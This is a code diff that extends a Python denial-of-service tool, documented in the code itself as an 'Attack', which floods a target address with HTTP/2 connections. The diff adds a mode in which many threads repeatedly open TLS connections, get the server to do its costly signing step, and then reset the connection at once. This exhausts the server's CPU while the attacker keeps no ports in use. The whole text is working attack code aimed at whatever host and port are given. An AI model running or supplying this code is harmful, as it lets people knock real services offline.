@@ -6,6 +6,7 @@ Runs until it is stopped. A connection that is cut is opened again at once.
 from __future__ import annotations
 
 import socket
+import ssl
 import struct
 import sys
 import threading
@@ -77,6 +78,8 @@ KINDS: dict[str, Callable[[], tuple[bytes, bytes]]] = {
     "connections": connections,
 }
 """What each says once, and then again and again."""
+HANDSHAKES = "handshakes"
+"""Which is no such kind: what it says comes before the first byte of HTTP/2."""
 
 
 def flood(address: tuple[str, int], once: bytes, again: bytes) -> None:
@@ -85,14 +88,45 @@ def flood(address: tuple[str, int], once: bytes, again: bytes) -> None:
         with socket.create_connection(address) as peer:
             if again:
                 threading.Thread(target=_drop, args=(peer,), daemon=True).start()
-            else:  # a reset, which leaves the attacker no used-up ports
-                peer.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+            else:
+                _reset_when_closed(peer)
             try:
                 peer.sendall(GREETING + once)
                 while again:
                     peer.sendall(again)
             except OSError:
                 continue
+
+
+def leave_handshakes(address: tuple[str, int]) -> None:
+    """Begin TLS with ``address``, always in the same words, and leave when the server has done its part: it has signed,
+    and this side has worked out nothing."""
+    hello = _client_hello()
+    while True:
+        try:
+            with socket.create_connection(address) as peer:
+                _reset_when_closed(peer)
+                peer.sendall(hello)
+                peer.recv(1)
+        except OSError:
+            continue
+
+
+def _client_hello() -> bytes:
+    context = ssl.create_default_context()
+    context.set_alpn_protocols(["h2"])
+    said = ssl.MemoryBIO()
+    client = context.wrap_bio(ssl.MemoryBIO(), said, server_hostname="picker")
+    try:
+        client.do_handshake()
+    except ssl.SSLWantReadError:
+        return said.read()
+    raise AssertionError("a handshake without a server")
+
+
+def _reset_when_closed(peer: socket.socket) -> None:
+    """Closing ``peer`` is then a reset, which leaves the attacker no used-up ports."""
+    peer.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
 
 
 def _drop(peer: socket.socket) -> None:
@@ -107,9 +141,9 @@ def main() -> None:
     """Attack."""
     address, kind, connections = sys.argv[1:]
     host, _, port = address.rpartition(":")
-    once, again = KINDS[kind]()
+    target, words = (leave_handshakes, ()) if kind == HANDSHAKES else (flood, KINDS[kind]())
     for _ in range(int(connections)):
-        threading.Thread(target=flood, args=((host, int(port)), once, again), daemon=True).start()
+        threading.Thread(target=target, args=((host, int(port)), *words), daemon=True).start()
     threading.Event().wait()
 
 
